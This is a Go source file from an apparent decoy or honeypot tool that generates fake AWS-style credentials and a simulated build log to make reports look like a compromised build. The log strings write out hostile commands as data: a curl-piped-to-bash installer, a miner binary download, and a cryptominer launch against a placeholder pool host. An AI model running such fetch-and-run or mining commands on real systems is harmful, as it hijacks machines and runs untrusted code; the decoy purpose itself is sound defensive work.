// Package flavor generates the decorative content that makes decoy
// reports look like a compromised build: leaked-looking credentials,
// suspicious build log excerpts and host details.
package flavor

import (
	"fmt"
	"math/rand"
	"strings"
	"time"

	"github.com/bardlex/cryptodecoy/internal/notify"
)

const (
	upperAlnum  = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
	secretChars = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/="
	hexChars    = "0123456789abcdef"
)

// CredentialsTitle is the field title used for simulated credentials
const CredentialsTitle = "AWS Credentials (Simulated)"

// Credentials is a pair of fake AWS-style keys. They match the shape of
// real keys so DLP rules fire, but carry no access.
type Credentials struct {
	AccessKey string
	SecretKey string
}

// RandomString draws n characters from alphabet
func RandomString(r *rand.Rand, alphabet string, n int) string {
	var b strings.Builder
	b.Grow(n)
	for range n {
		b.WriteByte(alphabet[r.Intn(len(alphabet))])
	}
	return b.String()
}

// RandomHex draws n lowercase hex characters
func RandomHex(r *rand.Rand, n int) string {
	return RandomString(r, hexChars, n)
}

// NewCredentials draws an AKIA-prefixed access key and a 40 character secret
func NewCredentials(r *rand.Rand) Credentials {
	return Credentials{
		AccessKey: "AKIA" + RandomString(r, upperAlnum, 16),
		SecretKey: RandomString(r, secretChars, 40),
	}
}

// Field renders the credentials as a report field
func (c Credentials) Field() notify.Field {
	return notify.Field{
		Title: CredentialsTitle,
		Value: fmt.Sprintf("Access Key: %s\nSecret Key: %s", c.AccessKey, c.SecretKey),
		Short: false,
	}
}

// CredentialLeakEvent is the one-off "credentials in the build environment" report
func CredentialLeakEvent(r *rand.Rand, now time.Time) notify.Event {
	return notify.NewEvent(notify.KindDecoration, notify.SeverityDanger,
		"Build environment contains AWS credentials",
		[]notify.Field{NewCredentials(r).Field()}, now)
}

// BuildLog returns a full fake build log. Lines 6 to 10 are the
// suspicious part: a piped installer, a binary download and a miner launch.
func BuildLog(r *rand.Rand, algo string) []string {
	return []string{
		"2025-01-01T00:00:01.000Z [INFO] Starting build...",
		"2025-01-01T00:00:02.123Z [INFO] Downloading source from repo...",
		"2025-01-01T00:00:10.456Z [INFO] Installing dependencies...",
		"2025-01-01T00:00:15.789Z [INFO] npm install --quiet",
		"2025-01-01T00:00:30.987Z [INFO] Building project...",
		"2025-01-01T00:00:35.654Z [INFO] npm run build",
		fmt.Sprintf("2025-01-01T00:00:40.321Z [INFO] Executing curl -s https://raw.githubusercontent.com/user/repo/%s/setup.sh | bash", RandomHex(r, 7)),
		"2025-01-01T00:00:42.765Z [INFO] Downloading binary from https://cdn.example.com/miner-v1.2.3.tar.gz",
		"2025-01-01T00:00:45.123Z [INFO] Setting execution permissions: chmod +x ./miner",
		fmt.Sprintf("2025-01-01T00:00:46.789Z [INFO] Executing ./miner --daemon --algo %s --pool pool.example.com:3333 --user worker123", algo),
		"2025-01-01T00:00:48.456Z [INFO] Process started with PID 12345",
		"2025-01-01T00:00:50.789Z [INFO] Continuing with normal build tasks...",
		"2025-01-01T00:01:30.123Z [INFO] Build completed successfully",
	}
}

// SuspiciousExcerpt returns the suspicious slice of BuildLog, ellipsised
func SuspiciousExcerpt(r *rand.Rand, algo string) string {
	return strings.Join(BuildLog(r, algo)[6:11], "\n") + "..."
}

// BuildLogEvent is the post-build "suspicious commands" report
func BuildLogEvent(r *rand.Rand, algo string, now time.Time) notify.Event {
	return notify.NewEvent(notify.KindDecoration, notify.SeverityDanger,
		"Build logs contain suspicious commands",
		[]notify.Field{{Title: "Build Logs (Sample)", Value: SuspiciousExcerpt(r, algo), Short: false}},
		now)
}
